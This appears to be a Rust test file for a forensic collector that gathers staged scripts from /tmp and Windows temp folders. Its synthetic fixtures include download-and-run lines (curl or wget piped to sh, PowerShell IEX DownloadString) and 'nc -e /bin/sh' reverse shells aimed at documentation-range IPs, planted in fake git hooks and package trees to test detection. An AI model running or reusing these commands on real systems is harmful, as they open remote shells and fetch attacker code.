//! `temp_scripts` on generated hostile trees: a Linux root whose /tmp holds every trap the
//! walk must survive, and a Windows root with case-scrambled folders.

use crate::harness::{Archive, RootBuilder, collect};
use base64::Engine;
use serde_json::Value;
use sha2::Digest;
use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;
use std::time::{Duration, SystemTime};

const MARKER: &str = "SHADOW-MARKER-7f3a9c";
const CAP: u64 = 1 << 20;

fn sha_hex(data: &[u8]) -> String {
    sha2::Sha256::digest(data)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

fn profile(extra: &str) -> String {
    format!(
        "name = \"t\"\ndescription = \"test\"\n[collectors.temp_scripts]\n\
         max_file_copy = \"{CAP}\"\n{extra}\n"
    )
}

fn run(root: &Path, profile_text: &str) -> (tempfile::TempDir, Archive, crate::harness::Run) {
    let out = tempfile::tempdir().unwrap();
    let p = out.path().join("p.toml");
    std::fs::write(&p, profile_text).unwrap();
    let (run, archive) = collect(
        &out.path().join("o"),
        &[
            "--root",
            root.to_str().unwrap(),
            "--profile",
            p.to_str().unwrap(),
        ],
    );
    let archive = archive.unwrap_or_else(|| panic!("no archive: {}{}", run.stdout, run.stderr));
    (out, archive, run)
}

fn is_root() -> bool {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| {
            s.lines()
                .find_map(|l| l.strip_prefix("Uid:"))
                .and_then(|l| l.split_whitespace().nth(1).map(|u| u == "0"))
        })
        .unwrap_or(false)
}

/// The hostile tree. Returns the root and the names planted.
fn hostile_root() -> RootBuilder {
    let r = RootBuilder::new();
    r.write(
        "etc/shadow",
        format!("root:{MARKER}:19000::::::\n").as_bytes(),
    )
    .write("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n")
    .write(
        "tmp/drop.ps1",
        b"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\n",
    )
    .write(
        "tmp/.x/payload",
        b"#!/bin/bash\ncurl -s http://203.0.113.7/s | sh\n",
    )
    .write("tmp/notes.txt", b"just text\n")
    .write("tmp/old.sh", b"echo old\n")
    .write("tmp/locked/inner.sh", b"echo locked\n");
    let t = r.path().join("tmp");
    std::fs::copy("/bin/true", t.join("kworkerd")).unwrap();
    // Aged mtime: a timestomped file whose ctime (now) still gives it away.
    let old = SystemTime::now() - Duration::from_secs(400 * 86_400);
    std::fs::File::options()
        .write(true)
        .open(t.join("old.sh"))
        .unwrap()
        .set_modified(old)
        .unwrap();
    let st = std::process::Command::new("mkfifo")
        .arg(t.join("f"))
        .status()
        .unwrap();
    assert!(st.success());
    // Sockets: one with an innocent name (ignored), one named like a script (recorded).
    let s1 = std::os::unix::net::UnixListener::bind(t.join("agent.sock")).unwrap();
    let s2 = std::os::unix::net::UnixListener::bind(t.join("s.sh")).unwrap();
    std::mem::forget((s1, s2));
    // A symlink loop and links out of the tree.
    std::fs::create_dir_all(t.join("loop")).unwrap();
    symlink("../loop", t.join("loop/again")).unwrap();
    symlink("self.sh", t.join("loop/self.sh")).unwrap();
    symlink("/etc/shadow", t.join("shadow.sh")).unwrap();
    symlink("/etc", t.join("etc")).unwrap();
    // Not UTF-8.
    std::fs::write(
        t.join(OsStr::from_bytes(b"\xff\xfeevil.sh")),
        b"echo bytes\n",
    )
    .unwrap();
    // Sparse, larger than the per-file cap.
    let mut sparse = std::fs::File::create(t.join("sparse.bin")).unwrap();
    std::io::Write::write_all(&mut sparse, b"#!/bin/sh\necho sparse\n").unwrap();
    sparse.set_len(3 * CAP + 123).unwrap();
    std::fs::set_permissions(t.join("locked"), std::fs::Permissions::from_mode(0o000)).unwrap();
    r
}

fn by_path<'a>(recs: &'a [Value], p: &str) -> Option<&'a Value> {
    recs.iter().find(|r| r["path"] == p)
}

#[test]
fn hostile_linux_tmp() {
    let root = hostile_root();
    let (_out, mut archive, run) = run(root.path(), &profile(""));
    let t = root.path().join("tmp");
    // Restore permissions so the temp dir can be removed.
    std::fs::set_permissions(t.join("locked"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let recs = archive.records("temp_scripts");
    let get = |p: &str| by_path(&recs, p).unwrap_or_else(|| panic!("{p} missing: {recs:#?}"));

    // By extension.
    let ps = get("/tmp/drop.ps1");
    assert_eq!(ps["detected_type"], "powershell");
    assert_eq!(ps["selected_by"], serde_json::json!(["extension"]));
    assert!(
        ps["first_line"]
            .as_str()
            .unwrap()
            .starts_with("IEX (New-Object")
    );
    assert_eq!(ps["location"], "/tmp");
    assert_eq!(ps["depth"], 1);
    let want = sha_hex(&std::fs::read(t.join("drop.ps1")).unwrap());
    assert_eq!(ps["sha256"], want);
    assert_eq!(ps["copied"], true);
    assert_eq!(ps["truncated"], false);
    assert_eq!(sha_hex(&archive.member("files/tmp/drop.ps1")), want);

    // By `#!` only, in a hidden directory.
    let p = get("/tmp/.x/payload");
    assert_eq!(p["detected_type"], "shell");
    assert_eq!(p["selected_by"], serde_json::json!(["content"]));
    assert_eq!(p["interpreter"], "/bin/bash");
    assert_eq!(p["first_line"], "#!/bin/bash");
    assert_eq!(p["depth"], 2);
    assert!(p["mode"].is_string() && p["uid"].is_u64());

    // An ELF without an extension.
    let elf = get("/tmp/kworkerd");
    assert_eq!(elf["detected_type"], "elf");
    assert_eq!(elf["selected_by"], serde_json::json!(["content"]));
    assert!(elf.get("first_line").is_none());
    assert_eq!(elf["sha256"], sha_hex(&std::fs::read("/bin/true").unwrap()));

    assert!(by_path(&recs, "/tmp/notes.txt").is_none());

    // Old mtime, recent ctime: kept, and the record says why.
    let old = get("/tmp/old.sh");
    let recent: Vec<&str> = old["recent_by"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    assert!(
        recent.contains(&"ctime") && !recent.contains(&"mtime"),
        "{old}"
    );

    // A FIFO is recorded by its type and never opened (the run finished: we are here).
    let f = get("/tmp/f");
    assert_eq!(f["file_type"], "fifo");
    assert_eq!(f["detected_type"], "fifo");
    assert_eq!(f["selected_by"], serde_json::json!(["file_type"]));
    assert!(f.get("sha256").is_none() && f["copied"] == false);

    // Sockets: only the one whose name matches.
    assert!(by_path(&recs, "/tmp/agent.sock").is_none());
    let s = get("/tmp/s.sh");
    assert_eq!(s["detected_type"], "socket");
    assert!(s.get("sha256").is_none());

    // Links: recorded when their name matches, never followed or opened.
    let l = get("/tmp/shadow.sh");
    assert_eq!(l["file_type"], "symlink");
    assert_eq!(l["detected_type"], "symlink");
    assert_eq!(l["link_target"], "/etc/shadow");
    assert!(l.get("sha256").is_none() && l.get("archive_member").is_none());
    assert_eq!(get("/tmp/loop/self.sh")["file_type"], "symlink");
    assert!(by_path(&recs, "/tmp/etc").is_none());
    assert!(
        !recs
            .iter()
            .any(|r| r["path"].as_str().unwrap().starts_with("/tmp/loop/again/")),
        "a symlinked directory was walked"
    );
    // Nothing of /etc/shadow reached the archive through /tmp.
    for name in archive.names() {
        let data = archive.member(&name);
        assert!(
            !data.windows(MARKER.len()).any(|w| w == MARKER.as_bytes()),
            "{name} holds the shadow marker"
        );
    }

    // A name that is not UTF-8: shown lossily, kept exactly, copied under an escaped name.
    let bad = recs
        .iter()
        .find(|r| r["path"].as_str().unwrap().ends_with("evil.sh"))
        .expect("non-UTF-8 name");
    assert_eq!(bad["path"], "/tmp/\u{fffd}\u{fffd}evil.sh");
    let raw = base64::engine::general_purpose::STANDARD
        .decode(bad["path_raw_b64"].as_str().unwrap())
        .unwrap();
    assert_eq!(raw, b"/tmp/\xff\xfeevil.sh");
    assert_eq!(bad["archive_member"], "files/tmp/%FF%FEevil.sh");
    assert_eq!(archive.member("files/tmp/%FF%FEevil.sh"), b"echo bytes\n");

    // Sparse file over the cap: copy truncated at the cap, hash of the whole file.
    let sp = get("/tmp/sparse.bin");
    let whole = std::fs::read(t.join("sparse.bin")).unwrap();
    assert_eq!(whole.len() as u64, 3 * CAP + 123);
    assert_eq!(sp["sha256"], sha_hex(&whole));
    assert_eq!(sp["bytes_hashed"], 3 * CAP + 123);
    assert_eq!(sp["truncated"], true);
    assert_eq!(sp["copied_bytes"], CAP);
    let member = archive.member(sp["archive_member"].as_str().unwrap());
    assert_eq!(member, whole[..CAP as usize]);
    let m = archive.manifest();
    let entry = m["members"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["path"] == sp["archive_member"])
        .unwrap();
    assert_eq!(entry["original"]["truncated"], true);
    assert_eq!(entry["original"]["sha256"], sha_hex(&whole));

    // The unreadable directory: root reads through mode 000; anyone else gets an error
    // naming it.
    let c = archive.collector("temp_scripts");
    if is_root() {
        assert!(by_path(&recs, "/tmp/locked/inner.sh").is_some());
        assert_eq!(c["status"], "ok", "{c}");
        assert_eq!(run.code, 0, "{}", run.stdout);
    } else {
        // A gap, not a cut: listed, and the collector is still `ok`.
        assert_eq!(c["status"], "ok", "{c}");
        assert!(c["errors"].to_string().contains("/tmp/locked"), "{c}");
    }
}

#[test]
fn mtime_only_window_drops_the_aged_file() {
    let root = hostile_root();
    let (_o, mut archive, _) = run(root.path(), &profile("window_times = [\"mtime\"]"));
    std::fs::set_permissions(
        root.path().join("tmp/locked"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    let recs = archive.records("temp_scripts");
    assert!(by_path(&recs, "/tmp/old.sh").is_none());
    assert!(by_path(&recs, "/tmp/drop.ps1").is_some());
    assert!(by_path(&recs, "/tmp/kworkerd").is_some());
}

#[test]
fn windows_root_places_case_insensitive() {
    // On disk in other cases than the logical paths ask for, as a mounted NTFS may show.
    let r = RootBuilder::new();
    r.mkdir("WINDOWS/System32")
        .write("users/alice/appdata/local/TEMP/x.ps1", b"Write-Host hi\r\n")
        .write(
            "users/alice/appdata/local/TEMP/sub/deeper.JS",
            b"WScript.Echo(1)",
        )
        .write("users/alice/appdata/local/top.bat", b"@echo off\r\n")
        .write(
            "users/alice/appdata/local/Programs/inner.bat",
            b"@echo off\r\n",
        )
        .write(
            "users/alice/appdata/Roaming/upd.VBS",
            b"CreateObject(\"WScript.Shell\")",
        )
        .write(
            "users/alice/downloads/invoice.pdf",
            b"MZ\x90\x00\x03\x00\x00\x00",
        )
        .write("users/PUBLIC/evil.bat", b"powershell -enc AAAA\r\n")
        .write("users/PUBLIC/Downloads/x.hta", b"<hta:application>")
        .write("programdata/top.vbs", b"MsgBox 1")
        .write("programdata/deep/nested.vbs", b"MsgBox 2")
        .write("WINDOWS/temp/t.cmd", b"whoami")
        .write("WINDOWS/temp/readme.txt", b"text");
    let (_o, mut archive, run) = run(r.path(), &profile(""));
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    let recs = archive.records("temp_scripts");
    let mut paths: Vec<&str> = recs.iter().map(|r| r["path"].as_str().unwrap()).collect();
    paths.sort();
    assert_eq!(
        paths,
        [
            r"C:\ProgramData\top.vbs",
            r"C:\Users\Public\Downloads\x.hta",
            r"C:\Users\Public\evil.bat",
            r"C:\Users\alice\AppData\Local\Temp\sub\deeper.JS",
            r"C:\Users\alice\AppData\Local\Temp\x.ps1",
            r"C:\Users\alice\AppData\Local\top.bat",
            r"C:\Users\alice\AppData\Roaming\upd.VBS",
            r"C:\Users\alice\Downloads\invoice.pdf",
            r"C:\Windows\Temp\t.cmd",
        ]
    );
    let x = by_path(&recs, r"C:\Users\alice\AppData\Local\Temp\x.ps1").unwrap();
    assert_eq!(x["user"], "alice");
    assert_eq!(x["location"], r"C:\Users\alice\AppData\Local\Temp");
    assert_eq!(x["first_line"], "Write-Host hi");
    // Unix ownership of the analyst's copy means nothing for Windows evidence.
    assert!(x.get("uid").is_none() && x.get("mode").is_none());
    let pdf = by_path(&recs, r"C:\Users\alice\Downloads\invoice.pdf").unwrap();
    assert_eq!(pdf["detected_type"], "pe");
    assert_eq!(pdf["selected_by"], serde_json::json!(["content"]));
    assert_eq!(pdf["extension"], "pdf");
    let js = by_path(&recs, r"C:\Users\alice\AppData\Local\Temp\sub\deeper.JS").unwrap();
    assert_eq!(js["detected_type"], "javascript");
    assert_eq!(js["extension"], "js");
    // Copies are named after the Windows path.
    let member = x["archive_member"].as_str().unwrap();
    assert!(
        member.starts_with("files/C/Users/alice/AppData/Local/Temp/"),
        "{member}"
    );
    assert_eq!(archive.member(member), b"Write-Host hi\r\n");
}

/// Set `p`'s mtime to `age_secs` ago, in whole seconds.
fn age(p: &Path, age_secs: u64) {
    let now = SystemTime::now()
        .duration_since(SystemTime::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    let t = SystemTime::UNIX_EPOCH + Duration::from_secs(now - age_secs);
    std::fs::File::options()
        .write(true)
        .open(p)
        .unwrap()
        .set_modified(t)
        .unwrap();
}

fn exec(p: &Path) {
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
}

fn paths_of(recs: &[Value]) -> Vec<String> {
    let mut v: Vec<String> = recs
        .iter()
        .map(|r| r["path"].as_str().unwrap().to_string())
        .collect();
    v.sort();
    v
}

#[test]
fn package_trees_become_one_record_each_and_planted_scripts_are_still_collected() {
    const ELF: &[u8] = b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00";
    let r = RootBuilder::new();
    r.write("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n");
    // A virtualenv: 150 modules; one of them edited two days after the venv was made.
    let sp = "tmp/venv/lib/python3.11/site-packages";
    r.write(
        "tmp/venv/pyvenv.cfg",
        b"home = /usr/bin\nversion = 3.11.7\n",
    )
    .write("tmp/venv/bin/pip", b"#!/tmp/venv/bin/python3\nimport pip\n");
    for i in 0..150 {
        r.write(
            &format!("{sp}/pkg{}/m{i}.py", i % 10),
            b"def f():\n    return 1\n",
        );
    }
    r.write(&format!("{sp}/pkg3/m3.py"), b"import socket, os  # added\n");
    // node_modules: 120 .js files and package.json.
    for i in 0..120 {
        r.write(
            &format!("tmp/app/node_modules/p{}/lib/f{i}.js", i % 12),
            b"module.exports = 1;\n",
        );
    }
    // A Cargo target/: executables and objects, which are its layout.
    r.write(
        "tmp/rs/target/CACHEDIR.TAG",
        b"Signature: 8a477f597d28d172789f06886806bc55\n",
    );
    for i in 0..120 {
        r.write(&format!("tmp/rs/target/debug/deps/app-{i:04x}"), ELF);
        exec(
            &r.path()
                .join(format!("tmp/rs/target/debug/deps/app-{i:04x}")),
        );
    }
    // A .git: HEAD, objects, hook samples.
    r.write("tmp/rs/.git/HEAD", b"ref: refs/heads/main\n")
        .write("tmp/rs/.git/config", b"[core]\n");
    for i in 0..120 {
        r.write(
            &format!("tmp/rs/.git/objects/{:02x}/{i:038x}", i % 16),
            b"x\x01zz",
        );
    }
    for h in ["pre-commit", "pre-push", "update"] {
        r.write(
            &format!("tmp/rs/.git/hooks/{h}.sample"),
            b"#!/bin/sh\nexit 0\n",
        );
        exec(&r.path().join(format!("tmp/rs/.git/hooks/{h}.sample")));
    }
    // Everything above was written three days ago.
    let three_days = 3 * 86_400;
    for e in walk_files(&r.path().join("tmp")) {
        age(&e, three_days);
    }
    age(&r.path().join(sp).join("pkg3/m3.py"), 86_400);
    // Planted now: a script at the top of site-packages, at the top of node_modules and of
    // target/, an active git hook; and an ordinary staged script.
    let planted = [
        (
            format!("{sp}/update.sh"),
            "#!/bin/sh\ncurl -s http://203.0.113.7/s | sh\n",
        ),
        (
            "tmp/app/node_modules/postinstall.sh".into(),
            "#!/bin/sh\nwget -qO- http://203.0.113.7/n | sh\n",
        ),
        ("tmp/rs/target/build.sh".into(), "#!/bin/sh\nid\n"),
        (
            "tmp/rs/.git/hooks/post-checkout".into(),
            "#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444 &\n",
        ),
        ("tmp/drop.sh".into(), "#!/bin/sh\nwhoami\n"),
    ];
    for (p, body) in &planted {
        r.write(p, body.as_bytes());
        exec(&r.path().join(p));
    }
    let (_o, mut archive, run) = run(r.path(), &profile("window_times = [\"mtime\"]"));
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    let recs = archive.records("temp_scripts");
    let tree = |p: &str| {
        let rec = by_path(&recs, p).unwrap_or_else(|| panic!("{p}: {:#?}", paths_of(&recs)));
        assert_eq!(rec["detected_type"], "package_tree", "{rec}");
        assert_eq!(rec["file_type"], "directory");
        assert_eq!(rec["copied"], false);
        rec["package_tree"].clone()
    };
    let venv = tree("/tmp/venv");
    assert_eq!(venv["kind"], "python_venv");
    assert_eq!(venv["file_count"], 153);
    assert_eq!(venv["count_capped"], false);
    assert_eq!(venv["foreign_count"], 2, "{venv:#}");
    let reasons: Vec<(&str, &str)> = venv["foreign"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| (f["path"].as_str().unwrap(), f["reason"].as_str().unwrap()))
        .collect();
    assert!(
        reasons.contains(&(
            "/tmp/venv/lib/python3.11/site-packages/update.sh",
            "unexpected_at_top"
        )),
        "{reasons:?}"
    );
    assert!(
        reasons.contains(&(
            "/tmp/venv/lib/python3.11/site-packages/pkg3/m3.py",
            "changed_after_tree"
        )),
        "{reasons:?}"
    );
    assert!(venv["total_size"].as_u64().unwrap() > 150 * 20);
    assert!(venv["newest_mtime"].is_string() && venv["settled_time"].is_string());
    let nm = tree("/tmp/app/node_modules");
    assert_eq!(nm["kind"], "node_modules");
    assert_eq!(nm["foreign"][0]["reason"], "unexpected_at_top");
    let tgt = tree("/tmp/rs/target");
    assert_eq!(tgt["kind"], "cargo_target");
    // Its 120 executables are the layout: only the planted script is foreign.
    assert_eq!(tgt["foreign_count"], 1, "{tgt:#}");
    let git = tree("/tmp/rs/.git");
    assert_eq!(git["kind"], "git");
    assert_eq!(git["foreign_count"], 1, "{git:#}");
    assert_eq!(git["foreign"][0]["reason"], "git_hook");
    assert_eq!(git["foreign"][0]["in_window"], true);

    // One record per tree, the planted files, nothing else of the trees' 500 files.
    let mut want: Vec<String> = planted.iter().map(|(p, _)| format!("/{p}")).collect();
    want.extend(
        [
            "/tmp/venv",
            "/tmp/app/node_modules",
            "/tmp/rs/target",
            "/tmp/rs/.git",
            "/tmp/venv/lib/python3.11/site-packages/pkg3/m3.py",
        ]
        .map(String::from),
    );
    want.sort();
    assert_eq!(paths_of(&recs), want);
    for (p, body) in &planted {
        let rec = by_path(&recs, &format!("/{p}")).unwrap();
        assert_eq!(rec["copied"], true, "{rec}");
        assert_eq!(rec["detected_type"], "shell");
        let member = rec["archive_member"].as_str().unwrap();
        assert_eq!(archive.member(member), body.as_bytes());
        let selected = rec["selected_by"].to_string();
        assert_eq!(
            selected.contains("out_of_place"),
            *p != "tmp/drop.sh",
            "{p}: {selected}"
        );
    }
    assert_eq!(archive.collector("temp_scripts")["status"], "ok");
}

/// Every regular file below `dir`.
fn walk_files(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let e = e.unwrap();
            let t = e.file_type().unwrap();
            if t.is_dir() {
                stack.push(e.path());
            } else if t.is_file() {
                out.push(e.path());
            }
        }
    }
    out
}

#[test]
fn bin_blobs_are_not_scripts_but_an_elf_named_bin_is() {
    let r = RootBuilder::new();
    r.write("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n");
    let mut seed: u64 = 0x2545_f491_4f6c_dd1d;
    for i in 0..20 {
        let mut blob = Vec::new();
        for _ in 0..64 {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            blob.extend_from_slice(&seed.to_le_bytes());
        }
        // Never a magic the collector knows.
        blob[0] = b'Z';
        r.write(&format!("tmp/cache/blob{i}.bin"), &blob);
    }
    r.copy("tmp/cache/firmware-update.bin", Path::new("/bin/true"));
    let (_o, mut archive, _) = run(r.path(), &profile(""));
    let recs = archive.records("temp_scripts");
    assert_eq!(paths_of(&recs), ["/tmp/cache/firmware-update.bin"]);
    assert_eq!(recs[0]["detected_type"], "elf");
    assert_eq!(recs[0]["selected_by"], serde_json::json!(["content"]));
    assert_eq!(recs[0]["copied"], true);
}

#[test]
fn budgets_keep_the_newest_shallowest_scripts_and_say_what_was_dropped() {
    let r = RootBuilder::new();
    r.write("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n");
    // First in name order and depth-first order: old scripts deep down.
    for i in 0..30 {
        let p = format!("tmp/a/b/c/d/old{i:02}.sh");
        r.write(&p, &[b'#'; 1000]);
        age(&r.path().join(&p), 20 * 86_400);
    }
    // Mid-depth, recent.
    for i in 0..3 {
        let p = format!("tmp/a/mid{i}.sh");
        r.write(&p, &[b'#'; 1000]);
        age(&r.path().join(&p), 30);
    }
    // Shallow and new: z0 newest.
    for i in 0..4 {
        let p = format!("tmp/z{i}.sh");
        r.write(&p, &[b'#'; 1000]);
        age(&r.path().join(&p), 60 + 60 * i);
    }
    // Shallow, new, but not runnable: a .url shortcut holding text.
    r.write("tmp/aaa.url", b"[InternetShortcut]\nURL=http://x\n");
    let (_o, mut archive, run) = run(
        r.path(),
        &profile("window_times = [\"mtime\"]\nmax_files = 5\nmax_total_copy = \"2500\""),
    );
    assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
    let recs = archive.records("temp_scripts");
    // Written best first.
    let order: Vec<&str> = recs.iter().map(|r| r["path"].as_str().unwrap()).collect();
    assert_eq!(
        order,
        [
            "/tmp/z0.sh",
            "/tmp/z1.sh",
            "/tmp/z2.sh",
            "/tmp/z3.sh",
            "/tmp/a/mid0.sh"
        ]
    );
    // The copy budget went to the best: two whole copies, one cut, then hash only.
    let copied: Vec<u64> = recs
        .iter()
        .map(|r| r["copied_bytes"].as_u64().unwrap())
        .collect();
    assert_eq!(copied, [1000, 1000, 500, 0, 0]);
    assert!(recs.iter().all(|r| r["sha256"].is_string()));
    let c = archive.collector("temp_scripts");
    assert_eq!(c["status"], "partial", "{c}");
    let cuts = c["cuts"].to_string();
    assert!(
        cuts.contains("33 more candidates than max_files (5)"),
        "{cuts}"
    );
    assert!(c["reason"].as_str().unwrap().contains("max_files"), "{c}");
}

#[test]
fn a_flat_directory_of_20000_files() {
    let r = RootBuilder::new();
    r.write("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n");
    let flat = r.path().join("tmp/flat");
    std::fs::create_dir_all(&flat).unwrap();
    for i in 0..20_000 {
        let (name, body): (String, &[u8]) = if i % 100 == 0 {
            (format!("s{i:05}.sh"), b"echo\n")
        } else {
            (format!("f{i:05}.dat"), b"data")
        };
        std::fs::write(flat.join(name), body).unwrap();
    }
    let started = std::time::Instant::now();
    let (_o, mut archive, run) = run(r.path(), &profile(""));
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    let recs = archive.records("temp_scripts");
    assert_eq!(recs.len(), 200);
    assert!(recs.iter().all(|r| r["depth"] == 2 && r["copied"] == true));
    assert_eq!(archive.collector("temp_scripts")["status"], "ok");
    eprintln!("20,000 flat files collected in {:?}", started.elapsed());
}

/// A staged script's text is read by detection: the reverse shell inside `/tmp/.x/evil.sh`
/// is a finding that names its C2 address and points at the script's record and copy, and a
/// UTF-16 `.ps1` is read as text too. Past `max_scan_bytes`, scripts are collected but not
/// scanned, and the log says how many.
#[test]
fn staged_script_text_is_judged_by_the_rules() {
    let r = RootBuilder::new();
    r.mkdir("etc");
    r.write(
        "tmp/.x/evil.sh",
        b"#!/bin/sh\nsleep 5\nnc -e /bin/sh 198.51.100.7 4444\n",
    );
    let ps: Vec<u8> = "\u{feff}$c = New-Object Net.WebClient; IEX $c.DownloadString('http://198.51.100.9/a.ps1')\r\n"
        .encode_utf16()
        .flat_map(|u| u.to_le_bytes())
        .collect();
    r.write("tmp/stage.ps1", &ps);
    r.write("tmp/ok.sh", b"#!/bin/sh\necho hello\n");
    let (_out, mut archive, _run) = run(r.path(), &profile(""));
    let findings: Vec<Value> = String::from_utf8(archive.member("findings.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let about = |needle: &str| -> Vec<&Value> {
        findings
            .iter()
            .filter(|f| f.to_string().contains(needle))
            .collect()
    };
    let shell = about("198.51.100.7");
    assert!(
        shell.iter().any(|f| f["rule_id"] == "unix-reverse-shell"),
        "{shell:?}"
    );
    let ev = &shell[0]["evidence"];
    assert!(
        ev.to_string().contains("records/temp_scripts.jsonl"),
        "{ev}"
    );
    assert!(ev.to_string().contains("files/tmp/.x/evil.sh"), "{ev}");
    assert!(
        !about("198.51.100.9").is_empty(),
        "the UTF-16 script: {findings:?}"
    );
    assert!(
        about("ok.sh")
            .iter()
            .all(|f| f["rule_id"] != "unix-reverse-shell")
    );

    // No scan budget: the scripts are still collected, their text is not judged.
    let (_out, mut archive, _run) = run(r.path(), &profile("max_scan_bytes = \"0 B\""));
    let text = String::from_utf8(archive.member("findings.jsonl")).unwrap();
    assert!(!text.contains("unix-reverse-shell"), "{text}");
    let log = String::from_utf8(archive.member("collection.log")).unwrap();
    assert!(log.contains("max_scan_bytes"), "{log}");
    assert_eq!(archive.records("temp_scripts").len(), 3);
}
